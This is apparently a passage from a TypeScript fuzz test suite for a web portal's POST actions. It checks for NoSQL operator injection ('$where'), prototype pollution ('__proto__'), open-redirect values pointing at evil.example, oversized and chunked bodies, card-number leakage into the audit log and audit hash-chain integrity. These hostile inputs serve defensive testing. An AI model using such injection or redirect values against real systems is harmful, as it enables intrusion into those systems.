      forms: [{ purpose: fc.constantFrom(...exportPurposes), note: someText }],
    },
    {
      name: 'POST /indicators/export/download (purpose)',
      action: indicatorExportAction,
      path: () => '/indicators/export/download',
      actors: [as('member')],
      forms: [{ format: fc.constantFrom('csv', 'stix'), purpose: fc.constantFrom(...accessPurposes), note: someText, type: fc.constantFrom('', 'domain'), tlp: fc.constantFrom('', 'AMBER') }],
    },
  ]
}

function payloadFor(target: Target): fc.Arbitrary<Payload> {
  return fc.record({
    entries: fc.oneof(...target.forms.map(formEntries)),
    encoding: fc.oneof(
      { weight: 12, arbitrary: fc.constant<Encoding>('urlencoded') },
      { weight: 3, arbitrary: fc.constant<Encoding>('multipart') },
      { weight: 1, arbitrary: fc.constantFrom<Encoding>('json', 'text', 'none') },
    ),
    csrf: fc.oneof({ weight: 14, arbitrary: fc.constant('valid' as const) }, { weight: 1, arbitrary: fc.constantFrom('missing' as const, 'wrong' as const) }),
    query: target.query ?? fc.constant(''),
    ip: fc.ipV4(),
    actor: fc.nat({ max: target.actors.length - 1 }),
  })
}

async function send(target: Target, payload: Payload) {
  const actor = target.actors[payload.actor] ?? target.actors[0]
  if (!actor) throw new Error(`${target.name} has no actor`)
  const client = await actor()
  const request = buildRequest(target.path(), client, payload)
  return call(() => target.action({ request, params: target.params?.() ?? {}, context: { ...testContext, clientIp: payload.ip } }))
}

// --- the suite ------------------------------------------------------------------------------------

const timings: string[] = []
const reported = new Set<string>()
const prototypeKeys = Object.getOwnPropertyNames(Object.prototype).sort()

beforeAll(async () => {
  world = await arrangeWorld()
  const loginOrganisation = await createTestOrganisation({ kind: 'hotline_ngo', status: 'active' })
  extra.loginUser = await createTestUser({ organisationId: loginOrganisation.id, roles: ['member'] })
  extra.person = (await createTestUser({ organisationId: world.organisations.partnerP, roles: ['member'] })).id
  extra.suspendable = (await createTestOrganisation({ kind: 'acquirer_processor', status: 'active' })).id
  const application = await createTestOrganisation({ kind: 'bank', status: 'applied' })
  await collection('organisations').updateOne(
    { _id: new mongoose.Types.ObjectId(application.id) },
    { $set: { applicant: { name: 'Ana Lima', email: `applicant-${world.run}@example.org`, locale: 'en' } } },
  )
  extra.applications = [application.id]
  extra.tasks = (
    await createTasks(world.viewers.staff, {
      title: 'Hostile input target',
      assigneeOrganisationIds: [world.organisations.partnerP],
      tlp: 'AMBER',
      initiativeId: world.initiatives.own,
    })
  ).ids
  extra.initiative = await createInitiative(world.viewers.coordinator, {
    title: 'Hostile input initiative',
    purpose: 'A target for generated forms; nothing here is real.',
    status: 'active',
    milestones: [{ title: 'First notices sent', dueAt: new Date(Date.now() + 30 * 86_400_000) }],
  })
  const stored = await collection('initiatives').findOne({ _id: new mongoose.Types.ObjectId(extra.initiative) })
  const milestones: unknown = stored?.milestones
  const firstMilestone: unknown = Array.isArray(milestones) ? milestones[0] : null
  extra.milestone = isPlainObject(firstMilestone) ? String(firstMilestone._id) : ''
  extra.template = (
    await createTemplate(world.viewers.coordinator, {
      name: `Hostile playbook ${world.run}`,
      description: '',
      steps: [{ title: 'Resolve the acquirer', description: '', organisationKind: 'card_scheme', priority: 'high', dueInDays: 3 }],
    })
  ).id
  known.objectIds = [
    world.organisations.centreB,
    world.organisations.partnerQ,
    world.tasks.other,
    world.initiatives.other,
    world.otherPerson,
    world.people.member.id,
    extra.person,
  ]
})

afterAll(() => {
  if (timings.length) console.info(`hostile input, ${RUNS} runs per action:\n  ${timings.join('\n  ')}`)
})

// Targets are named before the world exists; their ids are read when each test runs.
const targetNames = [
  'POST /apply',
  'POST /login',
  'POST /login/verify',
  'POST /forgot-password',
  'POST /audit/export (purpose and filters)',
  'POST /reset-password/:token',
  'POST /invitations/:token (accept)',
  'POST /people/invite',
  'POST /people/:userId (person actions)',
  'POST /vetting/:organisationId (decisions)',
  'POST /partners/:organisationId (suspend, reinstate)',
  'POST /tasks/new',
  'POST /tasks/:taskId (transition, report, comment, link)',
  'POST /tasks/templates/new',
  'POST /tasks/templates/:templateId (edit)',
  'POST /initiatives/new',
  'POST /initiatives/:initiativeId/edit',
  'POST /initiatives/:initiativeId (status updates, status, invitations, milestones)',
  'POST /indicators/new',
  'POST /indicators/:indicatorId (sightings, purpose)',
  'POST /retention/:submissionId (re-justify)',
  'POST /dpo/retention (configuration)',
  'POST /account/notifications (preferences)',
  'POST /notifications (mark read)',
  'POST /resources/locale (language switch)',
  'POST /initiatives/:initiativeId/tasks.csv (export purpose)',
  'POST /indicators/export/download (purpose)',
]

function targetNamed(name: string): Target {
  const found = targets().find((target) => target.name === name)
  if (!found) throw new Error(`no target named ${name}`)
  return found
}

test('every target of the suite is named above', () => {
  expect(targets().map((target) => target.name)).toEqual(targetNames)
})

describe('the checks of this suite', () => {
  test('its generated card numbers are ones the portal must refuse', () => {
    fc.assert(fc.property(cardNumber, (number) => containsCardNumber(number) && containsCardNumber(`paid with ${number}.`)), { seed: SEED, numRuns: 200 })
  })

  test('the database checks find operator keys, prototype keys, card numbers and documents their schema refuses', () => {
    const problems: string[] = []
    const polluted: Record<string, unknown> = { ok: 'fine', nested: { note: 'paid with 4111 1111 1111 1111' } }
    Object.defineProperty(polluted, '$where', { value: 'x', enumerable: true })
    Object.defineProperty(polluted, '__proto__', { value: { polluted: true }, enumerable: true })
    checkContent(polluted, 'sample', problems)
    const task = { _id: 'x', title: '', status: 'lost', tlp: 'AMBER', priority: 'normal', dueAt: new Date(), statusChangedAt: 'yesterday', extra: 1 }
    checkFields(schemas.tasks ?? {}, task, 'task', problems)
    expect(problems).toEqual([
      'sample.nested.note: holds a card number',
      'sample: key "$where"',
      'sample: key "__proto__"',
      'task.extra: not in the schema',
      'task.ownerCentreId: required but missing',
      'task.assigneeOrganisationId: required but missing',
      'task.title: required but empty',
      'task.status: "lost" is not one of the allowed values',
      'task.statusChangedAt: not a date',
      'task.createdBy: required but missing',
    ])
  })
})

describe.each(targetNames)('%s', (name) => {
  test(`answers ${RUNS} generated hostile requests with a 4xx and a message, or a correct success`, { timeout: 120_000 }, async () => {
    const target = targetNamed(name)
    const started = Date.now()
    const statuses = new Map<number, number>()
    await fc.assert(
      fc.asyncProperty(payloadFor(target), async (payload) => {
        const result = await send(target, payload)
        const status = statusOf(result)
        statuses.set(status, (statuses.get(status) ?? 0) + 1)
        const problem = await problemWith(result)
        if (problem) throw new Error(problem)
        if (Object.getOwnPropertyNames(Object.prototype).sort().join() !== prototypeKeys.join() || 'polluted' in {}) throw new Error('Object.prototype was polluted')
      }),
      { numRuns: RUNS, seed: SEED, endOnFailure: true },
    )
    const spread = [...statuses].sort(([a], [b]) => a - b).map(([status, count]) => `${status}×${count}`).join(' ')
    timings.push(`${name}: ${((Date.now() - started) / 1000).toFixed(1)} s (${spread})`)
  })

  test('leaves no operator key, prototype key, card number or invalid document in the database', async () => {
    // Each problem is blamed on the first action after which it was found.
    const fresh = (await databaseProblems()).filter((problem) => !reported.has(problem))
    fresh.forEach((problem) => reported.add(problem))
    expect(fresh).toEqual([])
  })

  test('refuses a body over 256 KiB with 413 before reading it', async () => {
    const target = targetNamed(name)
    const payload: Payload = { entries: [['note', 'x'.repeat(MAX_FORM_BYTES + 1024)]], encoding: 'urlencoded', csrf: 'valid', query: '', ip: '10.9.9.9', actor: 0 }
    expect(statusOf(await send(target, payload))).toBe(413)
  })
})

/**
 * An audit export without filters records `details: { filter: {} }`. Mongoose used to drop the empty
 * object when saving (`minimize`), so the stored event no longer matched its hash and the whole log
 * read as tampered with: the first check below found it, the second guards the chain as a whole.
 */
describe('the audit hash chain', () => {
  test('the event recorded by an export without filters matches its hash', async () => {
    const target = targetNamed('POST /audit/export (purpose and filters)')
    const payload: Payload = { entries: [['purpose', 'Quarterly data-protection review']], encoding: 'urlencoded', csrf: 'valid', query: '', ip: '10.9.9.8', actor: 0 }
    expect(statusOf(await send(target, payload))).toBe(200)
    const [event] = await collection('auditevents').find({ action: 'audit.exported' }).sort({ seq: -1 }).limit(1).toArray()
    if (!event) throw new Error('the export was not audited')
    const { seq, at, actorUserId, actorOrganisationId, actorLabel, action, targetKind, targetId, outcome, ip, userAgent, details, prevHash } = event
    expect(hashAuditEvent({ seq, at, actorUserId, actorOrganisationId, actorLabel, action, targetKind, targetId, outcome, ip, userAgent, details, prevHash })).toBe(event.hash)
  })

  test('after every hostile request above, the whole audit chain still verifies', async () => {
    expect(await verifyAuditChain()).toEqual({ ok: true, checked: expect.any(Number) })
  })
})

/**
 * readForm's 256 KiB limit holds for bodies without a Content-Length too (chunked transfer encoding):
 * this suite found them read in full; readForm now counts the bytes as they arrive.
 */
describe('a chunked body without Content-Length', () => {
  test.each(['POST /apply', 'POST /tasks/new', 'POST /resources/locale (language switch)'])('%s refuses a 300 KiB chunked body with 413', async (name) => {
    const target = targetNamed(name)
    const actor = target.actors[0]
    if (!actor) throw new Error('no actor')
    const client = await actor()
    const chunk = utf8.encode(`csrf=${client.csrf}&note=${'x'.repeat(300 * 1024)}`)
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let offset = 0; offset < chunk.length; offset += 16 * 1024) controller.enqueue(chunk.slice(offset, offset + 16 * 1024))
        controller.close()
      },
    })
    const request = new Request(`${ORIGIN}${target.path()}`, {
      method: 'POST',
      headers: { cookie: client.cookie, 'content-type': 'application/x-www-form-urlencoded' },
      body,
      duplex: 'half',
    })
    const result = await call(() => target.action({ request, params: target.params?.() ?? {}, context: testContext }))
    expect(statusOf(result)).toBe(413)
  })
})

/**
 * After the second factor the person goes to `?redirectTo=`. Browsers read a backslash as "/" and drop
 * tabs and line breaks from URLs, so "/<backslash>evil.example" and "/<tab>/evil.example" must not be
 * taken for paths of the portal (this suite found both sending a freshly signed-in person elsewhere).
 */
describe('the sign-in flow after the second factor', () => {
  test.each(['/\\evil.example', '/\t/evil.example', '/tasks'])('redirectTo=%j stays on the portal', async (redirectTo) => {
    const user = await createTestUser({ organisationId: world.organisations.partnerP, roles: ['member'] })
    const client = await pendingClient(user, 'password')
    const secret = user.totpSecret
    if (!secret) throw new Error('the test person has no second factor')
    const payload: Payload = {
      entries: [['code', await totpCodeAt(secret)]],
      encoding: 'urlencoded',
      csrf: 'valid',
      query: `?${new URLSearchParams({ redirectTo })}`,
      ip: '10.9.9.7',
      actor: 0,
    }
    const request = buildRequest('/login/verify', client, payload)
    const result = await call(() => verifyAction({ request, params: {}, context: testContext }))
    expect(statusOf(result)).toBe(302)
    expect(await problemWith(result)).toBeNull()
  })
})

/**
 * BUG (reported): the audit export records its query filters in the audit event (`details.filter`),
 * and the free-text filters ("actor", and "action"/"prefix", whose pattern allows digits and dashes)
 * are not checked for card numbers, so a card number typed into a filter lands in the audit log.
 */
describe('BUG: an audit export stores a card number typed into its filters in the audit log', () => {
  test.each(['actor', 'action', 'prefix'])('a card number in the "%s" filter is refused or kept out of the log', async (field) => {
    const target = targetNamed('POST /audit/export (purpose and filters)')
    const payload: Payload = {
      entries: [['purpose', 'Quarterly data-protection review']],
      encoding: 'urlencoded',
      csrf: 'valid',
      query: `?${new URLSearchParams({ [field]: '4111-1111-1111-1111' })}`,
      ip: '10.9.9.6',
      actor: 0,
    }
    const [last] = await collection('auditevents').find({}).sort({ seq: -1 }).limit(1).toArray()
    const result = await send(target, payload)
    expect(await problemWith(result)).toBeNull()
    const problems: string[] = []
    for (const event of await collection('auditevents').find({ seq: { $gt: last?.seq ?? 0 } }).toArray()) checkContent(event, `auditevents/${String(event._id)}`, problems)
    expect(problems).toEqual([])
  })
})
